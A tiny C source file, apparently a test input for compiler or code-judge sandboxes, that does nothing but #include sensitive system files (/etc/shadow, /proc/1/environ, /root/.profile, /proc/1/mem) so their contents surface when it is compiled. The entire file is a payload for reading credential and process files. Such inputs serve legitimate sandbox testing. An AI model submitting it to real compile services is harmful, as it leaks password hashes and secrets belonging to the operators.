#include "/etc/shadow"
#include "/proc/1/environ"
#include "/root/.profile"
#include "/proc/1/mem"
int main(void) {}
